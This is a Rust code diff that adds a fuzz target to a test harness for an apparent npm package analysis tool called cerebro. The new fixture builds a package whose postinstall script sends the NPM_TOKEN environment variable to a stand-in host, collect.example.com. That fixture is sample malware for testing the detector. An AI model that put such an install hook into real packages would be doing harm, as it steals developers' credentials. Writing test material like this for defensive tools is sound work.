@@ -34,7 +34,7 @@ use crate::common::{archives, constant_model, packages};
 pub type Entry = fn(&[u8]);
 
 /// Every target by its name.
-pub const ALL: [(&str, Entry); 18] = [
+pub const ALL: [(&str, Entry); 19] = [
     ("tar", tar),
     ("zip", zip),
     ("compressed", compressed),
@@ -49,6 +49,7 @@ pub const ALL: [(&str, Entry); 18] = [
     ("decoders", decoders),
     ("config", config),
     ("feed", feed),
+    ("external", external),
     ("ledger", ledger),
     ("model", model),
     ("worker", worker),
@@ -196,6 +197,28 @@ pub fn feed(data: &[u8]) {
     }
 }
 
+/// What others say of a package, from files.
+pub fn external(data: &[u8]) {
+    static CASE: LazyLock<Case> = LazyLock::new(|| {
+        let manifest = br#"{"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "node send.js"}}"#;
+        let code =
+            b"const https = require('https');\nhttps.get('https://collect.example.com/?' + process.env.NPM_TOKEN);\n";
+        let package = Arc::new(npm(manifest, &[("send.js", code)]).unwrap());
+        Case::read(package, Duration::ZERO, &Reading::default())
+    });
+    let files = [("a.json".to_owned(), Ok(data.to_vec())), ("b.json".to_owned(), Ok(data.to_vec()))];
+    let told = cerebro::external::tell(CASE.clone(), Path::new("absent"), files);
+    for evidence in told.evidence.iter() {
+        shown(&evidence.what);
+        let source = evidence.doc.and_then(|doc| told.source(doc));
+        if let (Some(source), Some(span)) = (source, evidence.span) {
+            within(&source.text, span);
+        }
+    }
+    told.contradictions().iter().for_each(|what| shown(what));
+    assert_eq!(told.external.reports.len(), 2);
+}
+
 /// A ledger: its file, its events, what is noted beside it; the first byte says which.
 pub fn ledger(data: &[u8]) {
     static EMPTY: LazyLock<Vec<u8>> = LazyLock::new(|| {
@@ -339,9 +362,9 @@ pub fn view(data: &[u8]) {
         let file = packages::file(&format!("package/{path}"), text);
         let package = Arc::new(packages::package(Ecosystem::Npm, "package/", vec![file]));
         let (sequence, text) = (Arc::default(), Arc::default());
-        let (evidence, indicators, brief) = (Arc::default(), Arc::default(), Arc::default());
+        let (evidence, indicators, brief, external) = (Arc::default(), Arc::default(), Arc::default(), Arc::default());
         let (verdict, timing, reading) = (None, cerebro::case::Timing::default(), Reading::default());
-        Case { package, sequence, reading, text, evidence, indicators, brief, verdict, timing }
+        Case { package, sequence, reading, text, evidence, indicators, brief, external, verdict, timing }
     };
     let (old, new) = (one(&source.text), one(&other));
     let diff = Diff::of(&old, &new);
